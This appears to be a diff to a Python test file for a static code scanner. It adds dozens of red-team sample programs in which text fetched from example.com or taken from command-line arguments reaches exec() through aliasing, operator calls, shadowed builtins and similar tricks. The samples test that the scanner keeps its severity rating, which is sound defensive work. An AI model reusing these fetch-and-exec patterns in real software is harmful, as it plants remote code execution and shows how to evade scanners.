@@ -15,7 +15,7 @@ from tests.code.helpers import scan_code
 
 # Two red teams' cases (stop 51): text an attacker controls (a request, a download, a computed default,
 # a rebound or rewritten name, an imported object, a configuration object) reaching eval/exec; each must
-# keep bandit's severity. ('rt2_' marks the second pass.)
+# keep bandit's severity. ('rt2_' and 'rt3_' mark the second and third passes.)
 HOSTILE_EVAL_SOURCES = {
     "flask_module": (
         "import flask\n"
@@ -961,6 +961,505 @@ HOSTILE_EVAL_SOURCES = {
         "cfg = pyrallis.parse(config_class=Cfg, config_path=args.config)\n"
         "print(eval(cfg.expr))\n"
     ),
+    "rt3_alias_append": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "y = x\n"
+        "y.append(d)\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_augassign": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "x += [d]\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_bound_method": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "add = x.append\n"
+        "add(d)\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_class_attr": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "class C:\n"
+        "    items = x\n"
+        "C.items.append(d)\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_default_alias": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "def fill(l=x):\n"
+        "    l.append(d)\n"
+        "fill()\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_dict_holder": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "holder = dict(k=x)\n"
+        'holder["k"].append(d)\n'
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_display_holder": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "holder = [x]\n"
+        "holder[0].append(d)\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_for_alias": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "for l in [x]:\n"
+        "    l.append(d)\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_for_target": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "for x[0] in [d]:\n"
+        "    pass\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_for_tuple_target": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "for x[0], _ in [(d, 1)]:\n"
+        "    pass\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_forloop_exec": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "y = x\n"
+        "y.append(d)\n"
+        "for s in x:\n"
+        "    exec(s)\n"
+    ),
+    "rt3_func_param": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "def fill(l):\n"
+        "    l.append(d)\n"
+        "fill(x)\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_getattr_append": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        'getattr(x, "append")(d)\n'
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_iadd": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "x.__iadd__([d])\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_init_dunder": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "x.__init__([d])\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_list_append_unbound": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "list.append(x, d)\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_list_target": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "[x[0]] = [d]\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_map_append": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "list(map(x.append, [d]))\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_max_exec": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "y = x\n"
+        "y.append(d)\n"
+        "exec(max(x))\n"
+    ),
+    "rt3_nested_list": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [[sys.argv[1]]]\n"
+        "x[0].append(d)\n"
+        "for row in x:\n"
+        "    for item in row:\n"
+        "        exec(item)\n"
+    ),
+    "rt3_nested_max": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [[sys.argv[1]]]\n"
+        "x[0].append(d)\n"
+        "exec(max(max(x)))\n"
+    ),
+    "rt3_operator_iadd": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "import operator\n"
+        "x = [sys.argv[1]]\n"
+        "operator.iadd(x, [d])\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_operator_setitem": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "import operator\n"
+        "x = [sys.argv[1]]\n"
+        "operator.setitem(x, 0, d)\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_setitem_dunder": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "x.__setitem__(0, d)\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_slice_assign": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "x[:] = [d]\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_sorted_exec": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "y = x\n"
+        "y.append(d)\n"
+        'exec("".join(sorted(x)))\n'
+    ),
+    "rt3_tuple_target": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "x[0], b = d, 1\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_argv_attr": (
+        'import sys\nimport requests\nd = requests.get("https://example.com/x").text\nsys.argv2 = d\nexec(sys.argv2)\n'
+    ),
+    "rt3_argv_fromimport": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "from sys import argv\n"
+        "argv.append(d)\n"
+        "exec(sys.argv[-1])\n"
+    ),
+    "rt3_argv_list_append": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "list.append(sys.argv, d)\n"
+        "exec(sys.argv[-1])\n"
+    ),
+    "rt3_argv_operator": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "import operator\n"
+        "operator.setitem(sys.argv, 1, d)\n"
+        "exec(sys.argv[1])\n"
+    ),
+    "rt3_argv_via_tuple": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "t = (sys.argv,)\n"
+        "t[0].append(d)\n"
+        'exec(" ".join(max(t)))\n'
+    ),
+    "rt3_argv_via_tuple2": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "t = (sys.argv,)\n"
+        "t[0].append(d)\n"
+        "exec(sys.argv[-1])\n"
+    ),
+    "rt3_comp_exec": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "y = x\n"
+        "y.append(d)\n"
+        "[exec(s) for s in x]\n"
+    ),
+    "rt3_comp_tuple_target": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "[None for x[0], _ in [(d, 1)]]\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_dictconv_nested": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "h = dict(k=[sys.argv[1]])\n"
+        'h["k"].append(d)\n'
+        'exec("\\n".join(h.get("k")))\n'
+    ),
+    "rt3_environ_operator": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "import os, operator\n"
+        'operator.setitem(os.environ, "CODE", d)\n'
+        'exec(os.environ["CODE"])\n'
+    ),
+    "rt3_environb": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "import os\n"
+        'os.environb[b"CODE"] = d.encode()\n'
+        'exec(os.environb[b"CODE"])\n'
+    ),
+    "rt3_extend_star": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "x.extend(*[[d]])\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_ifexp_list": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "y = x\n"
+        "y.append(d)\n"
+        'exec("\\n".join(x) if x else "")\n'
+    ),
+    "rt3_import_max": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "from evil import max\n"
+        "exec(max(sys.argv[1]))\n"
+    ),
+    "rt3_listconv_alias": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = list(sys.argv[1:])\n"
+        "y = x\n"
+        "y.append(d)\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_set_add": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = {sys.argv[1]}\n"
+        "set.add(x, d)\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_set_ior": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = {sys.argv[1]}\n"
+        "x.__ior__({d})\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_shadow_max": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "def max(*a):\n"
+        "    return d\n"
+        "exec(max(sys.argv[1]))\n"
+    ),
+    "rt3_shadow_sorted_lambda": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "sorted = lambda *a: [d]\n"
+        'exec("".join(sorted(sys.argv[1:])))\n'
+    ),
+    "rt3_shadow_str": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "def str(*a):\n"
+        "    return d\n"
+        "exec(str(sys.argv[1]))\n"
+    ),
+    "rt3_starred_target": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "x = [sys.argv[1]]\n"
+        "*x[0:1], = [d]\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_with_tuple": (
+        "import sys\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "import contextlib\n"
+        "x = [sys.argv[1]]\n"
+        "with contextlib.nullcontext((d, 1)) as (x[0], _):\n"
+        "    pass\n"
+        'exec("\\n".join(x))\n'
+    ),
+    "rt3_args_alias_ns": (
+        "import argparse\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "p = argparse.ArgumentParser()\n"
+        'p.add_argument("--code")\n'
+        "args = p.parse_args()\n"
+        "ns = args\n"
+        "exec(ns.code)\n"
+    ),
+    "rt3_args_alias_store": (
+        "import argparse\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "p = argparse.ArgumentParser()\n"
+        'p.add_argument("--code")\n'
+        "args = p.parse_args()\n"
+        "a = args\n"
+        "a.code = d\n"
+        "exec(args.code)\n"
+    ),
+    "rt3_args_display_holder": (
+        "import argparse\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "p = argparse.ArgumentParser()\n"
+        'p.add_argument("--code")\n'
+        "args = p.parse_args()\n"
+        "holder = [args]\n"
+        "holder[0].code = d\n"
+        "exec(args.code)\n"
+    ),
+    "rt3_args_for_target": (
+        "import argparse\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "p = argparse.ArgumentParser()\n"
+        'p.add_argument("--code")\n'
+        "args = p.parse_args()\n"
+        "for args.code in [d]:\n"
+        "    pass\n"
+        "exec(args.code)\n"
+    ),
+    "rt3_args_tuple_target": (
+        "import argparse\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "p = argparse.ArgumentParser()\n"
+        'p.add_argument("--code")\n'
+        "args = p.parse_args()\n"
+        "args.code, _ = d, 1\n"
+        "exec(args.code)\n"
+    ),
+    "rt3_ns_alias_store": (
+        "import argparse\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "p = argparse.ArgumentParser()\n"
+        'p.add_argument("--code")\n'
+        "args = p.parse_args()\n"
+        "ns = args\n"
+        "ns2 = ns\n"
+        "ns2.code = d\n"
+        "exec(ns.code)\n"
+    ),
+    "rt3_ns_fill": (
+        "import argparse\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "p = argparse.ArgumentParser()\n"
+        'p.add_argument("--code")\n'
+        "args = p.parse_args()\n"
+        "ns = args\n"
+        "def fill(o):\n"
+        "    o.code = d\n"
+        "fill(ns)\n"
+        "exec(ns.code)\n"
+    ),
+    "rt3_ns_tuple_target": (
+        "import argparse\n"
+        "import requests\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "p = argparse.ArgumentParser()\n"
+        'p.add_argument("--code")\n'
+        "args = p.parse_args()\n"
+        "ns = args\n"
+        "ns.code, _ = d, 1\n"
+        "exec(ns.code)\n"
+    ),
 }
 
 
@@ -1148,8 +1647,10 @@ def test_a_container_filled_by_a_method_is_not_the_operators(tmp_path: Path) -> 
         "exec('\\n'.join(lines))\n"
     )
     assert [f.severity.value for f in scan_code(tmp_path, source) if f.rule_id == "B102"] == ["medium"]
-    unfilled = "lines = ['x = 1', 'y = 2']\nexec('\\n'.join(lines))\n"
+    unfilled = "import sys\nlines = list(sys.argv[1:])\nexec('\\n'.join(lines))\n"
     assert [f.severity.value for f in scan_code(tmp_path, unfilled) if f.rule_id == "B102"] == ["low"]
+    filled = unfilled.replace("exec(", "lines.append(requests.get(URL).text)\nexec(")
+    assert [f.severity.value for f in scan_code(tmp_path, filled) if f.rule_id == "B102"] == ["medium"]
 
 
 @pytest.mark.parametrize(
